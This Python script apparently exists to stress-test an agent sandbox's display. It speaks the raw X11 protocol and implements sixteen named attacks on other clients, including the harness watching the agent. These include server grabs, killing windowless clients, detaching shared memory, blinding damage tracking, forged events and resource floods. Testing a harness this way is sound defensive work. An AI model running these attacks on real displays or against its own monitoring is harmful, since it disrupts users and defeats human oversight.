"""Attacks on the display, run inside a sandbox as the agent's user: python3 x11_attacks.py NAME [NUMBER...].

It speaks the X protocol over the socket and needs nothing but the standard library.
`ATTACKS` at the end lists the names.
"""

import socket
import struct
import sys
import time

SOCKET = "/tmp/.X11-unix/X1"


class Display:
    """A client of the X server without manners."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(SOCKET)
        self.sock.sendall(struct.pack("<BxHHHHxx", ord("l"), 11, 0, 0, 0))
        status, words = struct.unpack("<B5xH", self._read(8))
        setup = self._read(words * 4)
        if status != 1:
            raise SystemExit(f"refused: {setup[:80]!r}")
        self.base, self.mask, vendor = struct.unpack_from("<4xII4xH", setup)
        formats = setup[21]
        screen = 32 + (vendor + 3) // 4 * 4 + 8 * formats
        (self.root,) = struct.unpack_from("<I", setup, screen)
        self.ids = 0

    def _read(self, size):
        data = b""
        while len(data) < size:
            part = self.sock.recv(size - len(data))
            if not part:
                raise SystemExit("the display hung up")
            data += part
        return data

    def new_id(self):
        self.ids += 1
        return self.base | self.ids

    def send(self, major, detail=0, body=b""):
        body += bytes(-len(body) % 4)
        self.sock.sendall(struct.pack("<BBH", major, detail, 1 + len(body) // 4) + body)

    def answer(self):
        """Return the next reply or error; events are passed over."""
        while True:
            packet = self._read(32)
            if packet[0] == 1:
                return packet + self._read(4 * struct.unpack_from("<I", packet, 4)[0])
            if packet[0] == 0:
                return packet

    def call(self, major, detail=0, body=b""):
        self.send(major, detail, body)
        return self.answer()

    def sync(self):
        """Come to the end of all that was sent; answers with errors are passed over."""
        self.send(43)
        while self.answer()[0] != 1:
            pass

    def extension(self, name):
        reply = self.call(98, 0, struct.pack("<HH", len(name), 0) + name.encode())
        if not reply[8]:
            raise SystemExit("no " + name)
        return reply[9], reply[10]

    def atom(self, name):
        return struct.unpack_from("<I", self.call(16, 0, struct.pack("<HH", len(name), 0) + name.encode()), 8)[0]

    def window(self, parent=None, x=0, y=0, width=50, height=40, override=False):
        id = self.new_id()
        head = struct.pack("<IIhhHHHHII", id, parent or self.root, x, y, width, height, 0, 1, 0, 0x200)
        self.send(1, 0, head + struct.pack("<I", int(override)))
        return id

    def set_property(self, window, name, kind, width, data):
        """Set a property piece by piece; the server appends them."""
        kinds = {"STRING": 31, "CARDINAL": 6, "WINDOW": 33, "ATOM": 4}
        atom, type_ = self.atom(name), kinds.get(kind) or self.atom(kind)
        for at in range(0, max(len(data), 1), 200_000):
            part = data[at : at + 200_000]
            count = len(part) // (width // 8)
            self.send(18, 2 if at else 0, struct.pack("<IIIBxxxI", window, atom, type_, width, count) + part)

    def children(self):
        reply = self.call(15, 0, struct.pack("<I", self.root))
        return struct.unpack_from(f"<{struct.unpack_from('<H', reply, 16)[0]}I", reply, 32)

    def others(self):
        """Return the id bases of the clients that own no window on the root: the harness is among them."""
        step = self.mask + 1
        owners = {child & ~self.mask for child in self.children()}
        return [base for base in range(step, 0x20000000, step) if base not in owners and base != self.base]

    def forge(self, event, mask, destination=None):
        self.send(25, 0, struct.pack("<II", destination or self.root, mask) + event.ljust(32, b"\0"))


def grab_server(x, seconds=2.0):
    """Let nobody else be served for a while."""
    x.send(36)
    x.sync()
    print("grabbed", flush=True)
    time.sleep(seconds)
    x.send(37)
    x.sync()


def stutter(x, seconds=30.0, held=1.0):
    """Take the server again and again, so that each single answer comes late."""
    end = time.time() + seconds
    while time.time() < end:
        grab_server(x, held)


def kill_clients(x, times=1, pause=1.0):
    """Cut every client off that shows no window."""
    for _ in range(int(times)):
        for base in x.others():
            x.send(113, 0, struct.pack("<I", base | 1))
        x.sync()
        time.sleep(pause)


def detach_segments(x, seconds=0.0):
    """Take the shared memory of all other clients away."""
    major, _ = x.extension("MIT-SHM")
    end = time.time() + seconds
    while True:
        for base in x.others():
            for number in range(1, 64):
                x.send(major, 2, struct.pack("<I", base | number))
        x.sync()
        if time.time() >= end:
            return
        time.sleep(0.005)


def blind(x):
    """Take away the objects by which other clients learn that the screen was drawn on."""
    major, _ = x.extension("DAMAGE")
    x.call(major, 0, struct.pack("<II", 1, 1))
    for base in x.others():
        for number in range(1, 64):
            x.send(major, 2, struct.pack("<I", base | number))
    x.sync()


def resize(x, width=16000, height=16000):
    """Make the screen another size."""
    major, _ = x.extension("RANDR")
    x.call(major, 0, struct.pack("<II", 1, 5))
    x.send(major, 7, struct.pack("<IHHII", x.root, int(width), int(height), 400, 300))
    x.sync()


def forge_configure(x, width=50000, height=50000):
    """Say in the server's name that the screen has another size."""
    event = struct.pack("<BxHIIIhhHHHB", 22, 0, x.root, x.root, 0, 0, 0, int(width), int(height), 0, 0)
    x.forge(event, 0x20000)
    x.sync()


def forge_everything(x, rounds=20):
    """Send every kind of event that may be sent, with odd contents, to whoever listens at the root."""
    for number in range(int(rounds)):
        for code in range(2, 128):
            x.forge(struct.pack("<BBHI", code, number & 0xFF, 0xFFFF, x.root) + b"\xff" * 24, 0xFFFFFF & ~0x2000000)
    x.sync()


def storm(x, seconds=5.0):
    """Send events without a pause."""
    event = struct.pack("<BxHIIIhhHHHB", 22, 0, x.root, x.root, 0, 0, 0, 9, 9, 0, 0)
    end = time.time() + seconds
    while time.time() < end:
        for _ in range(500):
            x.forge(event, 0x20000 | 0x80000 | 0x400000)
        x.sync()


def many_windows(x, count=5000):
    """Map windows by the thousand and list them as the window manager would."""
    ids = [x.window(x=i % 1500, y=i % 900, override=True) for i in range(int(count))]
    for id in ids:
        x.send(8, 0, struct.pack("<I", id))
    x.set_property(x.root, "_NET_CLIENT_LIST_STACKING", "WINDOW", 32, struct.pack(f"<{len(ids)}I", *ids))
    _stay(x)


def huge_titles(x, count=300, size=500_000):
    """Give windows titles, classes and states far too long."""
    ids = [x.window(override=True) for _ in range(int(count))]
    for id in ids:
        for name in ("_NET_WM_NAME", "WM_NAME", "WM_CLASS"):
            x.set_property(id, name, "UTF8_STRING", 8, b"A" * int(size))
        x.set_property(id, "_NET_WM_STATE", "ATOM", 32, b"\1\2\3\4" * (int(size) // 4))
        x.send(8, 0, struct.pack("<I", id))
    x.set_property(x.root, "_NET_CLIENT_LIST_STACKING", "WINDOW", 32, struct.pack(f"<{len(ids)}I", *ids))
    _stay(x)


def deep_windows(x, depth=3000):
    """Nest windows and focus the innermost."""
    id = None
    for _ in range(int(depth)):
        id = x.window(parent=id, override=True)
        x.send(8, 0, struct.pack("<I", id))
    x.send(42, 0, struct.pack("<II", id, 0))
    _stay(x)


def wrong_types(x):
    """Set the properties of the root that tell of windows to the wrong types."""
    for name in ("_NET_CLIENT_LIST", "_NET_CLIENT_LIST_STACKING", "_NET_ACTIVE_WINDOW"):
        x.set_property(x.root, name, "STRING", 8, b"not a window")
    _stay(x)


def big_cursor(x, side=2000):
    """Show a pointer of millions of pixels."""
    side = int(side)
    render, _ = x.extension("RENDER")
    x.call(render, 0, struct.pack("<II", 0, 11))
    reply = x.call(render, 1)
    formats = struct.unpack_from("<I", reply, 8)[0]
    rows = [struct.unpack_from("<IBB2x8H", reply, 32 + 28 * i) for i in range(formats)]
    argb = next(row[0] for row in rows if row[2] == 32 and row[10] == 0xFF)
    pixmap, picture, cursor = x.new_id(), x.new_id(), x.new_id()
    x.send(53, 32, struct.pack("<IIHH", pixmap, x.root, side, side))
    x.send(render, 4, struct.pack("<IIII", picture, pixmap, argb, 0))
    x.send(render, 26, struct.pack("<BxxxIHHHHhhHH", 1, picture, 0xFFFF, 0, 0, 0xFFFF, 0, 0, side, side))
    x.send(render, 27, struct.pack("<IIHH", cursor, picture, 0, 0))
    cover = x.window(width=4000, height=4000, override=True)
    x.send(2, 0, struct.pack("<III", cover, 0x4000, cursor))
    x.send(8, 0, struct.pack("<I", cover))
    _stay(x)


def remap_keys(x, seconds=10.0):
    """Change the keyboard's meaning without a pause."""
    end = time.time() + seconds
    while time.time() < end:
        x.send(100, 1, struct.pack("<BBxxII", 200, 2, 0x61, 0x41))
        x.sync()


def use_up_clients(x):
    """Connect until the server refuses."""
    kept = []
    try:
        while True:
            kept.append(Display())
    except (SystemExit, OSError):
        print(len(kept), "connections", flush=True)
    _stay(x)


def _stay(x):
    x.sync()
    print("done", flush=True)
    time.sleep(600)


ATTACKS = {
    "grab": grab_server, "stutter": stutter, "kill": kill_clients, "detach": detach_segments, "resize": resize,
    "configure": forge_configure, "forge": forge_everything, "storm": storm, "windows": many_windows,
    "titles": huge_titles, "deep": deep_windows, "types": wrong_types, "cursor": big_cursor, "keys": remap_keys,
    "clients": use_up_clients, "blind": blind,
}  # fmt: skip

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](Display(), *map(float, sys.argv[2:]))
    print("done", flush=True)
